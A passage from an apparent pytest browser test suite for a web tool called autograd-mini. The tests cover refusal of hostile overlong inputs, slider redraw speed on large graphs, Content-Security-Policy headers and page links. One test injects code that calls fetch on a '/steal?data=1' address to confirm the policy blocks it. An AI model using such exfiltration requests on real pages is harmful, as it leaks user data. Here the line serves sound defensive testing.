            "이 페이지는 웹 서버로 여세요: `autograd-mini site serve 폴더`를 실행한 뒤 "
            "출력되는 주소를 여세요.")
    context.close()


# --- Hostile input, a large graph's slider, the Content-Security-Policy (in Chromium) ------


@pytest.mark.browser
def test_a_hostile_link_or_answer_is_refused_and_the_page_goes_on(open_tab, server):
    """The reproducers that once killed the page's Python ("Maximum call stack size
    exceeded", "Pyodide has suffered a fatal error"): each is one message, and the page
    works after it."""
    tab = open_tab("index.html#e=" + "-" * 1700 + "x&at=x:1")
    page = tab.page
    wait_until(page, "document.querySelector('#expression-error').textContent !== ''")
    assert "nested too deeply" in page.locator("#expression-error").text_content()
    assert_same(type_expression(page, "x*x + 3*x", {"x": 2.0}),
                package_answer("x*x + 3*x", {"x": 2.0}))
    assert page.locator("#expression-error").text_content() == ""
    page.goto(f"{server}/index.html#" + urllib.parse.urlencode({"e": "x+" * 2000, "at": "x:1"}))
    page.evaluate("() => window.autograd_mini.ready.then(() => true)")
    wait_until(page, "document.querySelector('#expression-error').textContent !== ''")
    assert "longer than 2000 characters" in page.locator("#expression-error").text_content()
    # A quiz answer goes through the same parser, and its limits.
    type_expression(page, "x*x", {"x": 3.0})
    page.check("#quiz-mode")
    settle(page)
    while page.locator("#quiz fieldset").count() == 0:  # the first backward step asks
        page.click("#next")
        settle(page)
    blank = page.locator("#quiz fieldset").first
    qid = blank.get_attribute("data-question")
    blank.locator("input").fill("-" * 1999 + "1")
    blank.get_by_role("button", name="Check").click()
    settle(page)
    assert "nested too deeply" in blank.locator(".feedback").text_content()
    truth = quiz_truths("x*x", {"x": 3.0})[qid]
    blank.locator("input").fill(repr(truth))
    blank.get_by_role("button", name="Check").click()
    settle(page)
    feedback = page.locator(f'fieldset[data-question="{qid}"] .feedback').text_content()
    assert feedback.startswith("right")
    page.uncheck("#quiz-mode")
    settle(page)
    assert_same(type_expression(page, "tanh(x)", {"x": 0.5}), package_answer("tanh(x)", {"x": 0.5}))
    assert page.locator("#graph svg").count() == 1


@pytest.mark.slow
@pytest.mark.browser
def test_the_slider_of_a_product_of_190_factors_redraws_quickly(open_tab):
    """Laid out once, then only redrawn at the same positions (it was a new layout at
    every move, 3-10 s).  The time a move takes is reported as a figure, not asserted:
    the layout kept is asserted on the desktop (tests/test_site_safety.py)."""
    expression = "*".join(["x"] * 190)
    page = open_tab().page
    started = time.perf_counter()
    type_expression(page, expression, {"x": 0.9})
    first = time.perf_counter() - started
    timings = slide(page, "x", [0.9 + i * 0.01 for i in range(12)])
    figure(f"slider redraw, product of 190 factors (379 nodes): first frame {first:.1f} s, "
           f"then median {statistics.median(timings):.0f} ms, max {max(timings):.0f} ms "
           f"over {len(timings)} moves")
    assert len(timings) == 12 and all(t > 0 for t in timings)
    x = float(page.get_by_label("x value", exact=True).input_value())
    assert x == pytest.approx(0.9 + 11 * 0.01)
    assert_same(settled(page),
                package_answer(expression, {"x": x}))
    assert page.locator("#graph svg g.node").count() == 379 + 1  # and the colour legend


@pytest.mark.browser
def test_the_policy_is_sent_and_carried_and_code_cannot_reach_another_origin(open_tab, server,
                                                                             site):
    from autograd_mini.site.policy import CONTENT_SECURITY_POLICY, meta_tag

    for page_name in ("index.html", "check.html", "course.html"):
        with urllib.request.urlopen(f"{server}/{page_name}") as response:
            assert response.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
        assert meta_tag() in (site / page_name).read_text(encoding="utf-8")
    tab = open_tab("check.html")
    page = tab.page
    wait_until(page, "window.autograd_mini.lastCheck !== undefined")
    # The code runs in the engine's worker: the browser reports the refusal there.
    page.fill("#code", "import js\n"
                       "from pyodide.ffi import create_proxy\n"
                       "js.self.violations = js.Array.new()\n"
                       "js.self.addEventListener('securitypolicyviolation', create_proxy(\n"
                       "    lambda e: js.self.violations.push(e.violatedDirective)))\n"
                       "js.fetch('http://127.0.0.2:9/steal?data=1').catch(lambda e: None)\n"
                       "print('sent')\n")
    press_check(page)
    wait_until(page, "autograd_mini.python('import js; js.self.violations.length')")
    assert page.evaluate("autograd_mini.python('import js; js.self.violations[0]')") \
        .startswith("connect-src")
    assert page.locator("#printed").text_content() == "sent\n"
    assert tab.blocked == []  # refused by the browser: no request was even made
    # The browser says so on the worker's console (the page's console stays clean).
    tab.console[:] = [m for m in tab.console
                      if "Content Security Policy" not in m and "Failed to fetch" not in m]


def test_every_page_links_to_every_page():
    """The header's links are the same on every page: none is reachable from only some."""
    pages = sorted(p.name for p in PAGES.glob("*.html"))
    for name in pages:
        links = re.findall(r'<a href="([\w-]+\.html)">', (PAGES / name).read_text("utf-8"))
        assert sorted(links) == pages, name
